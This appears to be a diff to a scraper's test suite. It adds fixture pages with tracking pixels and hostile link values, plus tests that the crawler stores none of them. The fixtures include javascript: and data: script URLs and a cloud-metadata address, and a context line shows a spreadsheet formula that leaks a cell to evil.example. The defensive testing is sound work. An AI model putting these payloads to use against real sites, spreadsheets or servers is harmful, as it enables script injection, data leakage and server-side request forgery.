@@ -81,6 +81,27 @@ def blank_page(slug: str) -> bytes:
     return page.encode()
 
 
+def pixel_page(slug: str) -> bytes:
+    """An article whose photo sits beside tracking pixels of another host (declared one pixel by attribute or style)
+    and a pixel-sized lazy-loading placeholder."""
+    pixels = ("<img src='https://tracker.example/p.gif' width='1' height='1' alt=''>"
+              "<figure><img src='//tracker.example/q.gif' style='width:0;height:0'></figure>"
+              "<figure><img src='/photo.jpg' width='800'><figcaption>Фото ГЭС</figcaption></figure>"
+              "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' data-src='/lazy.jpg' width='1' height='1'>")
+    return article(slug).replace(f"<p>{PARAGRAPHS[1]}", f"{pixels}<p>{PARAGRAPHS[1]}").encode()
+
+
+def script_links_page(slug: str) -> bytes:
+    """An article whose hreflang links and canonical link run script, are documents or name the cloud metadata
+    address, beside one good translation."""
+    links = ("<link rel='alternate' hreflang='tg' href='javascript:alert(1)'>"
+             "<link rel='alternate' hreflang='uz' href='data:text/html,&lt;script&gt;alert(2)&lt;/script&gt;'>"
+             "<link rel='alternate' hreflang='ky' href='http://169.254.169.254/latest/meta-data/'>"
+             "<link rel='alternate' hreflang='en' href='https://en.output.tj/news/script-links/'>"
+             "<link rel='canonical' href='javascript:alert(3)'>")
+    return article(slug).replace("<title>", f"{links}<title>").encode()
+
+
 # Titles Excel, LibreOffice and Google Sheets would run as formulas: by slug.
 FORMULAS = {
     "formula-equals": '=HYPERLINK("http://evil.example/?leak="&A1,"Совещание по энергетике")',
@@ -90,6 +111,7 @@ FORMULAS = {
 }
 PAGES = {"escape-codes": escape_page("escape-codes"), "bidi-spoof": spoof_page("bidi-spoof"),
          "plain-page": article("plain-page").encode(), "blank-fillers": blank_page("blank-fillers"),
+         "tracking-pixels": pixel_page("tracking-pixels"), "script-links": script_links_page("script-links"),
          **{slug: article(slug, title=title).encode() for slug, title in FORMULAS.items()}}
 
 STORED = set(PAGES) - {"blank-fillers"}  # the slugs stored: a page of blank letters has no title
@@ -192,6 +214,21 @@ def test_scrapy_articles_prints_no_escape_sequence_to_the_terminal(crawled: Craw
 
 def slug_of(url: str) -> str:
     return url.rstrip("/").rsplit("/", 1)[1]
+
+
+def test_no_tracking_pixel_is_stored(crawled: Crawled) -> None:
+    images = [image["url"] for image in crawled.records()["tracking-pixels"]["images"]]
+    assert images == [f"https://{DOMAIN}/photo.jpg", f"https://{DOMAIN}/lazy.jpg"]
+    exported = map(json.loads, crawled.command("export", "--with-html").stdout.splitlines())
+    html = next(r["html"] for r in exported if slug_of(r["url"]) == "tracking-pixels")
+    assert "/photo.jpg" in html and "/lazy.jpg" in html and "tracker.example" not in html
+
+
+def test_no_link_of_a_record_runs_script(crawled: Crawled) -> None:
+    record = crawled.records()["script-links"]
+    assert record["url"] == f"https://{DOMAIN}/news/script-links/"
+    assert record["translations"] == ["https://en.output.tj/news/script-links/"]
+    assert crawled.result.stats["cleaning/removed/translation_url"] == 3
 
 
 def test_stored_titles_are_the_pages_own(crawled: Crawled) -> None:
